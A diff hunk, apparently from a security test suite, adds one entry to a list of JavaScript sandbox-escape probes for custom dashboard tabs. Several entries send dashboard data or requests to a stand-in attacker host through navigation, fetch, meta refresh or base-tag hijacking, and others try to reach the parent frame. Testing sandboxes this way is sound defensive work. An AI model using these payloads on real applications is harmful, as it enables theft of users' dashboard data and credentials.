@@ -72,6 +72,7 @@ export const tabEscapes: Record<string, string> = {
   'uses the storage of an empty frame': `const it = document.createElement('iframe'); document.body.append(it); return 'kept ' + it.contentWindow.localStorage.length`,
   'takes itself elsewhere': `location = '${thief}/?' + JSON.stringify(window.dashboardData); ${later(400)}`,
   'takes itself to a page of ours': `location = '/app/eu/credentials'; ${later(400)}`,
+  'takes itself to its own page with more hosts': `if (location.search.includes('thief')) { await fetch('${thief}/fetch', { mode: 'no-cors' }); return 'sent' } location = '/custom-tab/html?host=thief.example'; ${later(800)}`,
   'sends itself on': `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=${thief}/refresh">'); ${later(500)}`,
   'moves the base': `document.head.insertAdjacentHTML('beforeend', '<base href="${thief}/">'); return document.baseURI.startsWith('${thief}') && 'moved'`,
   'asks to be of the domain': `document.domain = '127.0.0.1'; return parent.document.title`,
